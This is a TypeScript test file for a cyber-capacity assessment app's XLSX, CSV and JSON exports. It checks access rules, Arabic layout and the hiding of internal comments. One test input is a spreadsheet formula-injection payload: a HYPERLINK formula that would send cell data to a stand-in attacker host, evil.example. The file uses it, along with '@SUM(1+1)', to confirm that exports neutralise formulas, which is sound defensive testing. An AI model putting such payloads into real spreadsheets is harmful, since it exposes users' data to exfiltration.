import { randomBytes } from "node:crypto";
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { getDb } from "../db";
import type { Prisma } from "../generated/prisma/client";
import { getPortfolio } from "../portfolio/service";
import { addReviewComment, decideIndicator, sendReview, startReview } from "../review/service";
import { scoreRound } from "../scoring/score";
import type { ScoringAnswer } from "../scoring/types";
import { makeOpenRound, makeUser } from "../testing/fixtures";
import { UTF8_BOM } from "./csv";
import { exportPortfolio, exportRound, type ExportFile } from "./formats";

/** A random code of capital letters (programme region codes are 2-5 letters). */
const letters = (n: number) => [...randomBytes(n)].map((b) => String.fromCharCode(65 + (b % 26))).join("");

const BASE = "https://cybercap.example.org";
const VISIBLE = "Please attach the unit's mandate.";
const INTERNAL = "Internal: the level looks generous.";
const INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"click")';

async function bytesOf(file: ExportFile): Promise<Buffer> {
  return Buffer.from(await new Response(file.body).arrayBuffer());
}

async function workbookOf(file: ExportFile): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await bytesOf(file)) as unknown as ArrayBuffer);
  return wb;
}

/** The sheet's rows as arrays of values (exceljs rows are 1-based with an empty slot 0). */
function rowsOf(ws: ExcelJS.Worksheet): unknown[][] {
  const rows: unknown[][] = [];
  ws.eachRow({ includeEmpty: true }, (row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

/** A small RFC 4180 reader, enough to read our own CSV back (quotes, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(field);
      field = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += ch;
  }
  return rows;
}

/**
 * A submitted round of the country, reviewed: levels 0-4 in turn on the first pillars' indicators, one
 * not applicable, one don't know, a justification and an evidence title that would be formulas, a
 * comment visible to the country and an internal one, a validated level with its reason.
 */
async function reviewedRound(iso2: string) {
  const db = getDb();
  const round = await makeOpenRound(iso2, "SUBMITTED");
  const indicators = await db.indicator.findMany({
    where: { frameworkVersion: { status: "PUBLISHED" } },
    select: { id: true, code: true, pillar: { select: { code: true } } },
    orderBy: [{ pillar: { position: "asc" } }, { position: "asc" }],
  });
  const levelOf = (i: number): number | "NA" | "DK" | undefined => (i === 3 ? "NA" : i === 4 ? "DK" : i % 7 === 6 ? undefined : i % 5);
  const rows = indicators.flatMap((indicator, i): Prisma.AnswerCreateManyInput[] => {
    const v = levelOf(i);
    if (v === undefined) return [];
    if (v === "NA") return [{ roundId: round.id, indicatorId: indicator.id, kind: "NOT_APPLICABLE" as const, notApplicableReason: "No such courts." }];
    if (v === "DK") return [{ roundId: round.id, indicatorId: indicator.id, kind: "DONT_KNOW" as const }];
    return [{ roundId: round.id, indicatorId: indicator.id, kind: "LEVEL" as const, level: v, justification: i === 0 ? INJECTED : `Justification ${i}` }];
  });
  await db.answer.createMany({ data: rows });
  const first = await db.answer.findFirstOrThrow({ where: { roundId: round.id, indicatorId: indicators[0].id }, select: { id: true } });
  const evidence = await db.evidenceItem.create({ data: { answerId: first.id, kind: "LINK", title: "@SUM(1+1)", url: "https://police.example.org/unit" }, select: { id: true } });

  const focal = await makeUser({ memberOf: { iso2, role: "FOCAL_POINT" } });
  const officer = await makeUser({ officerOfCountry: iso2 });
  await startReview(officer, round.id);
  await addReviewComment(officer, round.id, { indicatorId: indicators[1].id, body: VISIBLE, visibility: "COUNTRY" });
  await addReviewComment(officer, round.id, { indicatorId: indicators[2].id, body: INTERNAL, visibility: "INTERNAL" });
  await decideIndicator(officer, round.id, indicators[1].id, { decision: "ACCEPTED", validatedLevel: 0, validatedReason: "The unit exists on paper only." });
  await sendReview(officer, round.id, { outcome: "COMMENT", summary: null });

  const expected = scoreRound({
    pillars: [...new Set(indicators.map((i) => i.pillar.code))].map((code) => ({ code, target: 3 })),
    indicators: indicators.map((i) => ({ code: i.code, pillarCode: i.pillar.code, weight: 1, uncacArticles: [], budapestArticles: [] })),
    answers: new Map(
      indicators.flatMap((ind, i): [string, ScoringAnswer][] => {
        const v = levelOf(i);
        if (v === undefined) return [];
        if (v === "NA") return [[ind.code, { kind: "NOT_APPLICABLE", level: null, targetOverride: null }]];
        if (v === "DK") return [[ind.code, { kind: "DONT_KNOW", level: null, targetOverride: null }]];
        return [[ind.code, { kind: "LEVEL", level: v, targetOverride: null }]];
      }),
    ),
    services: [],
  });
  return { round, indicators, focal, officer, evidence, expected };
}

describe("a round's data export", () => {
  it("writes the answers, scores and visible comments as XLSX, with the scoring module's numbers and formulas neutralised", async () => {
    const { round, indicators, focal, officer, evidence, expected } = await reviewedRound("JO");
    const file = await exportRound("xlsx", { actor: focal, roundId: round.id, lang: "en", baseUrl: BASE });
    expect(file.contentType).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    const { cycle } = await getDb().assessmentRound.findUniqueOrThrow({ where: { id: round.id }, select: { cycle: true } });
    expect(file.fileName).toBe(`cybercap-JO-${cycle}-answers.xlsx`);
    const wb = await workbookOf(file);
    expect(wb.worksheets.map((w) => w.name)).toEqual(["About", "Answers", "Scores", "Comments"]);
    expect(wb.keywords).toContain("frameworkVersion=1.0");
    expect(wb.keywords).toContain("methodVersion=1.0");

    const about = new Map(rowsOf(wb.getWorksheet("About")!).map((r) => [r[0], r[1]]));
    expect(about.get("Framework version")).toBe("1.0");
    expect(about.get("Scoring method version")).toBe("1.0");
    expect(wb.getWorksheet("About")!.views[0]?.rightToLeft).toBeFalsy();

    const answers = rowsOf(wb.getWorksheet("Answers")!);
    const head = answers[0] as string[];
    const col = (name: string) => head.indexOf(name);
    expect(answers).toHaveLength(indicators.length + 1);
    const firstRow = answers[1];
    expect(firstRow[col("Indicator")]).toBe(indicators[0].code);
    expect(firstRow[col("Level")]).toBe(0);
    expect(firstRow[col("Level label")]).toBe("0 – None");
    // A formula typed by a user stays text, shown with an apostrophe; never a formula cell.
    expect(firstRow[col("Justification")]).toBe(`'${INJECTED}`);
    expect(wb.getWorksheet("Answers")!.getRow(2).getCell(col("Justification") + 1).type).toBe(ExcelJS.ValueType.String);
    expect(firstRow[col("Evidence titles")]).toBe("'@SUM(1+1)");
    expect(firstRow[col("Evidence links")]).toBe("https://police.example.org/unit");
    expect(answers[4][col("Not applicable")]).toBe(true);
    expect(answers[4][col("Why not applicable")]).toBe("No such courts.");
    expect(answers[5][col("Don't know")]).toBe(true);
    expect(answers[2][col("Validated level")]).toBe(0);
    expect(answers[2][col("Reason for the validated level")]).toBe("The unit exists on paper only.");
    expect(evidence.id).toBeTruthy();

    const scores = rowsOf(wb.getWorksheet("Scores")!);
    const sHead = scores[0] as string[];
    for (const pillar of expected.pillars) {
      const row = scores.find((r) => r[0] === pillar.code)!;
      expect(row[sHead.indexOf("Score (0-4)")] ?? null).toBe(pillar.score);
      expect(row[sHead.indexOf("Score (%)")] ?? null).toBe(pillar.percent);
      expect(row[sHead.indexOf("Gap")] ?? null).toBe(pillar.gap);
      expect(row[sHead.indexOf("Answered")]).toBe(pillar.answered);
    }

    // The officer's own export carries the country's comments, never the internal one.
    for (const actor of [focal, officer]) {
      const comments = rowsOf((await workbookOf(await exportRound("xlsx", { actor, roundId: round.id, lang: "en", baseUrl: BASE }))).getWorksheet("Comments")!);
      expect(comments.flat()).toContain(VISIBLE);
      expect(JSON.stringify(comments)).not.toContain(INTERNAL);
    }
  });

  it("writes Arabic workbooks right to left, and CSV and JSON with the same figures", async () => {
    const { round, indicators, focal, officer, expected } = await reviewedRound("OM");
    const wb = await workbookOf(await exportRound("xlsx", { actor: focal, roundId: round.id, lang: "ar", baseUrl: BASE }));
    expect(wb.worksheets).toHaveLength(4);
    for (const ws of wb.worksheets) expect(ws.views[0]?.rightToLeft).toBe(true);
    expect(wb.worksheets[1].name).toBe("الإجابات");
    expect(rowsOf(wb.worksheets[1])[0]).toContain("المستوى");

    const csvFile = await exportRound("csv", { actor: officer, roundId: round.id, lang: "fr", baseUrl: BASE });
    expect(csvFile.contentType).toBe("text/csv; charset=utf-8");
    expect(csvFile.fileName).toMatch(/^cybercap-OM-.+-answers\.csv$/);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await bytesOf(csvFile));
    expect(text.startsWith(UTF8_BOM)).toBe(true);
    const csv = parseCsv(text.slice(1));
    expect(csv).toHaveLength(indicators.length + 1);
    const head = csv[0];
    expect(head[0]).toBe("Code ISO");
    expect(head.at(-2)).toBe("Version du référentiel");
    expect(csv[1][head.indexOf("Justification")]).toBe(`'${INJECTED}`);
    expect(csv[1][head.indexOf("Niveau")]).toBe("0");
    expect(csv.slice(1).every((r) => r.at(-2) === "1.0" && r.at(-1) === "1.0" && r[0] === "OM")).toBe(true);
    expect(text).not.toContain(INTERNAL);

    const json = JSON.parse(await new Response((await exportRound("json", { actor: officer, roundId: round.id, lang: "en", baseUrl: BASE })).body).text());
    expect(json).toMatchObject({ frameworkVersion: "1.0", methodVersion: "1.0", lang: "en", round: { id: round.id, country: { iso2: "OM" } } });
    expect(json.answers).toHaveLength(indicators.length);
    expect(json.answers[0].evidence).toEqual([{ kind: "LINK", title: "@SUM(1+1)", url: "https://police.example.org/unit", fileName: null }]);
    expect(json.comments.map((c: { body: string }) => c.body)).toEqual([VISIBLE]);
    expect(JSON.stringify(json)).not.toContain(INTERNAL);
    expect(json.scores.pillars.map((p: { code: string; score: number | null }) => [p.code, p.score])).toEqual(expected.pillars.map((p) => [p.code, p.score]));
  });

  it("refuses another country's focal point and an unknown round, in every format", async () => {
    const { round } = await reviewedRound("QA");
    const stranger = await makeUser({ memberOf: { iso2: "BH", role: "FOCAL_POINT" } });
    const focal = await makeUser({ memberOf: { iso2: "QA", role: "FOCAL_POINT" } });
    // PDF and DOCX too: the report refuses before any browser work (lib/report).
    for (const format of ["xlsx", "csv", "json", "pdf", "docx"] as const) {
      await expect(exportRound(format, { actor: stranger, roundId: round.id, lang: "en", baseUrl: BASE })).rejects.toMatchObject({ code: "FORBIDDEN", status: 403 });
      await expect(exportRound(format, { actor: focal, roundId: "0190a000-0000-7000-8000-000000000000", lang: "en", baseUrl: BASE })).rejects.toMatchObject({ code: "NOT_FOUND", status: 404 });
    }
  });
});

describe("the portfolio export", () => {
  it("holds only the officer's countries, with getPortfolio's figures, in XLSX and CSV; others are refused", async () => {
    const db = getDb();
    const region = await db.programmeRegion.create({ data: { code: letters(5), name: { en: "Export region" } } });
    await db.country.updateMany({ where: { iso2: { in: ["LA", "KH"] } }, data: { programmeRegionId: region.id } });
    await reviewedRound("LA");
    await reviewedRound("KH");
    await reviewedRound("BD");
    const officer = await makeUser({ officerOfRegion: region.code });

    const portfolio = await getPortfolio(officer, { region: null, status: null, cycle: null });
    expect(portfolio.countries.map((c) => c.iso2)).toEqual(["KH", "LA"]);

    const file = await exportPortfolio("xlsx", { actor: officer, filters: { region: null, status: null, cycle: null }, lang: "en" });
    expect(file.fileName).toBe("cybercap-portfolio.xlsx");
    const wb = await workbookOf(file);
    expect(wb.worksheets.map((w) => w.name)).toEqual(["About", "Countries", "Common gaps", "Service demand", "Rounds by status"]);
    const countries = rowsOf(wb.getWorksheet("Countries")!);
    expect(countries.slice(1).map((r) => r[0])).toEqual(["KH", "LA"]);
    for (const [index, country] of portfolio.countries.entries()) {
      const row = countries[index + 1];
      portfolio.pillars.forEach((p, i) => expect(row[5 + i] ?? null).toBe(country.scores[p.code]));
    }
    const gaps = rowsOf(wb.getWorksheet("Common gaps")!);
    expect(gaps.slice(1).map((r) => [r[1], r[3], r[4]])).toEqual(portfolio.commonGaps.map((g) => [g.code, g.countries, g.meanGap]));
    const demand = rowsOf(wb.getWorksheet("Service demand")!);
    expect(demand.slice(1).map((r) => [r[0], r[3], r[4]])).toEqual(portfolio.serviceDemand.map((d) => [d.code, d.countries, d.weightedGap]));

    const csvFile = await exportPortfolio("csv", { actor: officer, filters: { region: region.code, status: null, cycle: null }, lang: "en" });
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await bytesOf(csvFile));
    expect(text.startsWith(UTF8_BOM)).toBe(true);
    const csv = parseCsv(text.slice(1));
    expect(csv[0]).toEqual(["Filters", region.code]);
    const start = csv.findIndex((r) => r[0] === "Countries") + 2;
    expect(csv.slice(start, start + 3).map((r) => r[0])).toEqual(["KH", "LA", ""]);
    expect(text).not.toContain("BD,");

    const focal = await makeUser({ memberOf: { iso2: "LA", role: "FOCAL_POINT" } });
    await expect(exportPortfolio("xlsx", { actor: focal, filters: { region: null, status: null, cycle: null }, lang: "en" })).rejects.toMatchObject({ code: "FORBIDDEN" });
  });
});
